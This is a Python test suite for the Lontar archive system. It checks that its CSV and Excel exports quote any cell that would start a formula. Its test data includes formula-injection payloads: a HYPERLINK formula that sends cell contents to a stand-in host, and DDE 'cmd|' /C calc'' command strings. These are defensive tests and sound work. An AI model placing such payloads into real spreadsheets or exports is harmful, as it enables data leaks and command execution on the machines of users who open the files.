"""Spreadsheet formula injection: every CSV and Excel file Lontar writes comes out of
`repository.core.exports.encode`, and none of them carries a cell a spreadsheet would run.

First `encode` itself with hostile text (every character that starts a formula), numbers,
negative numbers, dates, None and Indonesian names; then hostile values put in the way an
attacker would (a record title, an anonymous PPID request and objection, a failed login name)
and read back out of the real exports: `lontar export` and the Cari page, the PPID registers
(the Register PPID page and `lontar ppid registers`), the audit export, and the tables the
pages offer as CSV/Excel (`ui.render.downloads`). Every file is read back with `csv` and
openpyxl: no text cell starts a formula and no Excel cell is a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
from decimal import Decimal

import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from indexes.search import SearchRequest
from repository.core import clock, exports
from repository.core.errors import LoginFailed
from repository.core.security import ADMIN
from tests.conftest import lontar_cli
from tests.test_ppid import CLOCK
from tests.test_ppid import file as file_request

LEAK = '=HYPERLINK("http://x/leak?"&A2,"Klik")'
HOSTILE = [
    LEAK,
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '\uff1dHYPERLINK("http://x")',  # full-width =
    "\uff0b1+1",  # full-width +
    "\uff0d1+1",  # full-width -
    "\uff20SUM(A1)",  # full-width @
    "  =1+1",
    "\u00a0=1+1",  # no-break space
    "\u3000=1+1",  # ideographic space
    "'=1+1",  # already quoted: quoted once more, so the quote is never lost on the way back
]
NAMES = [
    "Siti Rahayu",
    "I Gusti Ngurah Rai",
    "Ni Luh Putu Ayu Kartika Dewi",
    "Hj. Dra. Nur'aini, M.Si.",
    "Dinas Kependudukan dan Pencatatan Sipil – Bidang Pelayanan",
    "Surat Keputusan No. 188.4/12-DINKES/2024",
    "Kantor Camat Cibeunying Kaler; Ketua RT 03/RW 05",
    "ꦗꦮ (aksara Jawa)",
]
FORMULA_START = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:[.,][0-9]+)*|-")


def unsafe(text: str) -> bool:
    """Written independently of exports.py: text a spreadsheet might read as a formula. A
    leading `'` makes any cell text; a plain number or a lone `-` cannot be a formula."""
    if not text or text[0] == "'" or PLAIN_NUMBER.fullmatch(text):
        return False
    return text[0] in FORMULA_START or text.lstrip()[:1] in FORMULA_START


def csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())  # the BOM Excel needs for Indonesian names
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def xlsx_rows(data: bytes) -> list[list]:
    """The cells' values; fails on any cell openpyxl wrote as a formula."""
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    rows = []
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"formula in {cell.coordinate}: {cell.value!r}"
        rows.append([cell.value for cell in row])
    return rows


def read(data: bytes, fmt: str) -> list[list]:
    return csv_rows(data) if fmt == "csv" else xlsx_rows(data)


def assert_safe(rows: list[list]) -> None:
    for row in rows:
        for cell in row:
            assert not (isinstance(cell, str) and unsafe(cell)), f"live cell {cell!r} in {row}"


def column(rows: list[list], name: str) -> list:
    at = rows[0].index(name)
    return [row[at] for row in rows[1:]]


# -- encode itself --------------------------------------------------------------------------------
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("payload", HOSTILE)
def test_every_formula_start_is_quoted(payload, fmt):
    rows = read(exports.encode([{"title": payload, "unit": "DINKES"}], fmt, ["title"]), fmt)
    assert rows == [["title"], ["'" + payload]]
    assert_safe(rows)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_numbers_stay_numbers_and_dates_stay_dates(fmt):
    values = {
        "int": -5,
        "float": -2.5,
        "zero": 0,
        "decimal": Decimal("-3.5"),
        "numpy": np.int64(-7),
        "bool": True,
        "date": dt.date(2024, 5, 1),
        "datetime": dt.datetime(2024, 5, 1, 9, 30),
        "none": None,
        "text_number": "-5",
        "phone": "+62",
        "dash": "-",
        "inner": "Rapat a=b -c +d @e",
    }
    rows = read(exports.encode([values], fmt, list(values)), fmt)
    assert rows[0] == list(values)
    assert_safe(rows)
    if fmt == "csv":
        numbers, dates = (
            ["-5", "-2.5", "0", "-3.5", "-7", "True"],
            ["2024-05-01", "2024-05-01 09:30:00"],
        )
        assert rows[1] == [*numbers, *dates, "", "-5", "+62", "-", values["inner"]]
        return
    sheet = openpyxl.load_workbook(io.BytesIO(exports.encode([values], fmt, list(values)))).active
    cells = {sheet.cell(1, n).value: sheet.cell(2, n) for n in range(1, len(values) + 1)}
    for name in ("int", "float", "zero", "decimal", "numpy"):
        assert cells[name].data_type == "n" and cells[name].value == values[name], name
    assert isinstance(cells["int"].value, int)  # not a float because a neighbour is empty
    assert cells["bool"].value is True
    assert cells["date"].data_type == "d" and cells["date"].value.date() == values["date"]
    assert cells["datetime"].value == values["datetime"]
    assert cells["none"].value is None
    for name in ("text_number", "phone", "dash", "inner"):
        assert cells[name].data_type == "s" and cells[name].value == values[name], name


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_indonesian_names_come_back_intact(fmt):
    rows = read(exports.encode([{"name": n} for n in NAMES], fmt, ["name"]), fmt)
    assert column(rows, "name") == NAMES


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_headers_and_other_objects_are_neutralised_too(fmt):
    class Odd:
        def __str__(self) -> str:
            return "=1+1"

    rows = read(exports.encode([{"=x": "a", "odd": Odd()}], fmt, ["=x", "odd"]), fmt)
    assert rows == [["'=x", "odd"], ["a", "'=1+1"]]


def test_control_characters_do_not_break_an_excel_file():
    rows = xlsx_rows(exports.encode([{"t": "\x01=1+1\x1b"}, {"t": "=\x00"}], "xlsx", ["t"]))
    assert rows == [["t"], ["\ufffd=1+1\ufffd"], ["'=\ufffd"]]


def test_json_is_for_programs_and_keeps_every_value():
    rows = [{"title": payload, "n": -5} for payload in HOSTILE]
    assert json.loads(exports.encode(rows, "json", ["title", "n"])) == rows


def test_missing_keys_are_empty_and_other_keys_left_out():
    data = exports.encode([{"a": "=1", "secret": "x"}, {}], "csv", ["a", "b"])
    assert csv_rows(data) == [["a", "b"], ["'=1", ""], ["", ""]]


@given(st.text())
def test_unescape_gives_back_what_was_neutralised(text):
    written = exports.neutralise(text)
    assert not unsafe(written)
    assert exports.unescape(written) == text
    assert written == text or written == "'" + text


def test_a_table_as_the_pages_offer_it():
    """`render.downloads` encodes a pandas table's records: numpy numbers, Timestamps, NaN."""
    table = pd.DataFrame(
        {
            "title": [LEAK, "Siti Rahayu"],
            "n": [-3, 4],
            "x": [1.5, np.nan],
            "on": pd.to_datetime(["2024-05-01", "2024-06-01"]),
        }
    )
    rows, columns = table.to_dict("records"), list(table.columns)
    assert csv_rows(exports.encode(rows, "csv", columns))[1][:2] == ["'" + LEAK, "-3"]
    cells = xlsx_rows(exports.encode(rows, "xlsx", columns))
    assert cells[1][:3] == ["'" + LEAK, -3, 1.5] and cells[2][3] == dt.datetime(2024, 6, 1)
    assert cells[2][2] is None


# -- through the real services --------------------------------------------------------------------
class Column:
    """Stands in for a Streamlit column: keeps what a download button would hand out."""

    def __init__(self, files: dict) -> None:
        self.files = files

    def download_button(self, label, data, *, file_name, **_):
        self.files[file_name] = data() if callable(data) else data


@pytest.fixture
def page_downloads(monkeypatch) -> dict:
    """The files `ui.render.downloads` offers (the Retensi, Arsip vital, Informasi Publik and
    Register PPID pages), built as a click would build them."""
    import streamlit

    files: dict[str, bytes] = {}
    monkeypatch.setattr(streamlit, "columns", lambda n: [Column(files) for _ in range(n)])
    return files


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_record_title_in_the_search_export(service, fmt):
    titles = [LEAK, "-2+3+cmd|' /C calc'!A0 klik", "@SUM(1+1) klik", "Surat undangan klik"]
    for title in titles:
        service.ingest.create_container(ADMIN, "DINKES", "item", title)
    service.index.catch_up(ocr=False)
    rows = read(service.records.export(ADMIN, SearchRequest(query="klik"), fmt), fmt)
    assert_safe(rows)
    expected = {("'" + t) if t[0] in "=-@" else t for t in titles}
    assert set(column(rows, "title")) == expected
    raw = json.loads(service.records.export(ADMIN, SearchRequest(query="klik"), "json"))
    assert {r["title"] for r in raw} == set(titles)  # JSON keeps the title as it is


def test_lontar_export_writes_the_quoted_title(service, tmp_path):
    service.ingest.create_container(ADMIN, "DINKES", "item", LEAK)
    service.index.catch_up(ocr=False)
    service.close()
    out = tmp_path / "hasil.xlsx"
    lontar_cli("export", "klik", "--format", "xlsx", "--out", str(out), home=service.home)
    rows = xlsx_rows(out.read_bytes())
    assert_safe(rows)
    assert column(rows, "title") == ["'" + LEAK]


@pytest.fixture
def hostile_request(service):
    """An anonymous citizen files a request, then an objection, with formulas for text."""
    CLOCK.set("2026-03-02T09:00")
    clock.set_source(CLOCK)
    try:
        number = file_request(
            service,
            name=LEAK,
            address="+1+cmd|' /C calc'!A0",
            information="@SUM(1+1)*cmd|' /C calc'!A0",
            purpose="-2+3+cmd|' /C calc'!A0",
        )["number"]
        CLOCK.set("2026-03-17T09:00")  # unanswered and overdue: an objection may be filed
        service.ppid.file_objection(number, "siti@contoh.id", ["c"], "=1+1", "203.0.113.5")
        yield service
    finally:
        clock.set_source(None)


def test_an_anonymous_request_in_the_register_page_downloads(hostile_request, page_downloads):
    from ui import ppid_desk

    ppid_desk.registers(hostile_request.ppid.ppid_registers(ADMIN))
    assert set(page_downloads) == {f"register-{n}.{f}" for n in ("requests", "objections")
                                   for f in ("csv", "xlsx")}  # fmt: skip
    for name, data in page_downloads.items():
        rows = read(data, name.rsplit(".", 1)[1])
        assert_safe(rows)
        assert "'" + LEAK in rows[1], name  # the requester's name, quoted
        if "requests" in name:
            assert "'@SUM(1+1)*cmd|' /C calc'!A0" in rows[1]  # the information asked for
            assert "'-2+3+cmd|' /C calc'!A0" in rows[1]  # its purpose
        else:
            assert "'=1+1" in rows[1]  # the objection's reasons


def test_an_anonymous_request_in_lontar_ppid_registers(hostile_request, tmp_path):
    hostile_request.close()
    for objections in ((), ("--objections",)):
        out = tmp_path / f"register{len(objections)}.xlsx"
        args = ("ppid", "registers", "--format", "xlsx", *objections, "--out", str(out))
        lontar_cli(*args, home=hostile_request.home)
        rows = xlsx_rows(out.read_bytes())
        assert_safe(rows)
        assert column(rows, "requester") == ["'" + LEAK]
    assert column(rows, "reasons") == ["'=1+1"]
    shown = lontar_cli("ppid", "registers", "--format", "csv", home=hostile_request.home)
    rows = [row for row in csv_rows(shown.stdout.encode("utf-8-sig")) if row]  # echo's newline
    assert_safe(rows)
    assert column(rows, "information") == ["'@SUM(1+1)*cmd|' /C calc'!A0"]


def test_a_failed_login_name_in_the_audit_export(service, monkeypatch):
    from repository.records import accounts

    monkeypatch.setattr(accounts, "slowdown", lambda pemda, name: 0.0)  # time, not behaviour
    names = [LEAK, "@sum(1+1)*cmd|' /c calc'!a0", "+1+cmd|' /c calc'!a0", "-2+3+cmd|' /c"]
    for name in names:
        with pytest.raises(LoginFailed):
            service.access.login(name, "salah-salah", origin="web:203.0.113.9")
    rows = csv_rows(service.access.audit_export(ADMIN, action="login_failed"))
    assert_safe(rows)
    logged = [name.strip().lower()[:40] for name in names]  # as the trail keeps a login name
    assert column(rows, "actor") == ["'" + name for name in logged]


def test_the_audit_table_on_the_page_as_excel(service, monkeypatch, page_downloads):
    """Any table a page hands to `render.downloads`: here the audit entries of a hostile name."""
    from repository.records import accounts
    from ui import render

    monkeypatch.setattr(accounts, "slowdown", lambda pemda, name: 0.0)
    with pytest.raises(LoginFailed):
        service.access.login(LEAK, "salah-salah")
    table = pd.DataFrame(service.access.audit_entries(ADMIN, action="login_failed"))
    render.downloads(table[["seq", "actor", "action"]], "audit", "audit")
    for fmt in ("csv", "xlsx"):
        rows = read(page_downloads[f"audit.{fmt}"], fmt)
        assert_safe(rows)
        assert rows[0] == ["seq", "actor", "action"]
        assert rows[1][1:] == ["'" + LEAK.lower(), "login_failed"]


def test_the_jra_download_is_neutralised_and_still_reads_back(archive):
    hostile = (
        "code,active_years,inactive_years,trigger,disposition,note,security\n"
        '-2+3,2,3,date,Musnah,"=HYPERLINK(""http://x/leak?""&A2,""Klik"")",\n'
        "000.5,2,3,@sum(1),Musnah,- lihat PP 28/2012,\n"
    )
    archive.workbench.load_jra(ADMIN, hostile)
    before = {r["code"]: r for r in csv.DictReader(io.StringIO(archive.workbench.export_jra()))}
    rows = list(csv.reader(io.StringIO(archive.workbench.export_jra())))
    assert_safe(rows)
    archive.workbench.load_jra(ADMIN, archive.workbench.export_jra())  # the documented round trip
    after = {r["code"]: r for r in csv.DictReader(io.StringIO(archive.workbench.export_jra()))}
    assert after == before
    assert any(r["note"] == "'" + LEAK for r in after.values())
